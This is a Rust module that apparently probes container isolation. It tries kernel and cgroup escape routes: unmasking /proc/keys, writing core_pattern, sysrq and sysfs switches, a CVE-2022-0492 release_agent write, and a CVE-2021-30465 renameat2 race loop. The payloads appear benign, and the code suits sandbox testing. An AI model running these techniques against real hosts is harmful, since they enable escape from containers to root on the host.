//! Mounts, and the files by which the kernel is told what to do.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};

use super::system::{Got, any, called, text, write_back};

pub(crate) const ATTEMPTS: &[super::Attempt] = &[
    ("mount", mount_memory),
    ("unmask", unmask),
    ("core-pattern", core_pattern),
    ("sysctl", sysctl),
    ("sysrq", sysrq),
    ("sys-write", sys_write),
    ("release-agent", release_agent),
    ("own-limits", own_limits),
];

fn mount(kind: &str, at: &str, options: &str) -> io::Result<()> {
    fs::create_dir_all(at)?;
    let (kind, at, options) = (text(kind), text(at), text(options));
    called(
        unsafe {
            let options = options.as_ptr().cast();
            libc::mount(kind.as_ptr(), at.as_ptr(), kind.as_ptr(), 0, options)
        }
        .into(),
    )?;
    Ok(())
}

/// Whatever it was mounted with before.
fn make_writable(at: &str) -> io::Result<()> {
    let (at, nothing) = (text(at), std::ptr::null());
    let flags = libc::MS_REMOUNT;
    called(unsafe { libc::mount(nothing, at.as_ptr(), nothing, flags, nothing.cast()) }.into())?;
    Ok(())
}

fn unmount(at: &str) -> io::Result<()> {
    called(unsafe { libc::umount2(text(at).as_ptr(), libc::MNT_DETACH) }.into())?;
    Ok(())
}

fn mount_memory() -> Got {
    mount("tmpfs", "/tmp/mounted", "")?;
    unmount("/tmp/mounted")?;
    Ok("a file system was mounted".into())
}

/// What is masked, seen again below its mount.
fn unmask() -> Got {
    unmount("/proc/keys")?;
    let keys = fs::read_to_string("/proc/keys")?;
    Ok(format!("saw {} of the host's keys", keys.lines().count()))
}

/// A program of the container's that the host's kernel would start, as root outside.
fn core_pattern() -> Got {
    write_back("/proc/sys/kernel/core_pattern")
}

/// A switch that belongs to no namespace.
fn sysctl() -> Got {
    any(["/proc/sys/vm/swappiness", "/proc/sys/kernel/panic"], write_back)
}

/// The command that only prints which there are.
fn sysrq() -> Got {
    OpenOptions::new().write(true).open("/proc/sysrq-trigger")?.write_all(b"h")?;
    Ok("the kernel was given a command".into())
}

/// Switches of the kernel, through the mount that is there and through one of its own.
fn sys_write() -> Got {
    let switches =
        ["kernel/mm/transparent_hugepage/enabled", "module/printk/parameters/time", "power/state"];
    let of = |root: &str| any(switches, |switch| write_back(&format!("{root}/{switch}")));
    of("/sys").or_else(|_| {
        mount("sysfs", "/tmp/sys", "")?;
        let got = make_writable("/tmp/sys").and_then(|()| of("/tmp/sys"));
        unmount("/tmp/sys")?;
        got
    })
}

/// CVE-2022-0492: a hierarchy with a release agent, which the host's kernel starts.
fn release_agent() -> Got {
    const AT: &str = "/tmp/hierarchy";
    mount("cgroup", AT, "none,name=escape").or_else(|_| mount("cgroup", AT, "memory"))?;
    let write = || {
        let mut file = OpenOptions::new().write(true).open(format!("{AT}/release_agent"))?;
        file.write_all(b"/bin/true")
    };
    let got = write().map(|()| "the kernel starts what it was told to".into());
    unmount(AT)?;
    got
}

/// The limits of the own control group.
fn own_limits() -> Got {
    const AT: &str = "/tmp/groups";
    mount("cgroup2", AT, "").or_else(|_| mount("cgroup", AT, "pids"))?;
    let own = fs::read_to_string("/proc/self/cgroup")?;
    let groups = own.lines().filter_map(|line| line.rsplit_once(':'));
    let got = any(groups, |(_, group)| {
        let limit = format!("{AT}{group}/pids.max");
        File::options().write(true).open(limit)?.write_all(b"1000")
    });
    unmount(AT)?;
    got.map(|()| "set a limit of its own".into())
}

/// CVE-2021-30465: makes `data` in a directory by turns a directory and a link to the outside, while others
/// make or mount something below it; until there is a file `stop`.
pub(crate) fn swap(directory: &str, outside: &str) {
    let [data, link] = ["data", "link"].map(|name| text(&format!("{directory}/{name}")));
    fs::create_dir(format!("{directory}/data")).unwrap();
    std::os::unix::fs::symlink(outside, format!("{directory}/link")).unwrap();
    println!("ready");
    while !fs::exists(format!("{directory}/stop")).unwrap() {
        let (here, exchange) = (libc::AT_FDCWD, libc::RENAME_EXCHANGE);
        let (data, link) = (data.as_ptr(), link.as_ptr());
        called(unsafe { libc::renameat2(here, data, here, link, exchange) }.into()).unwrap();
    }
}
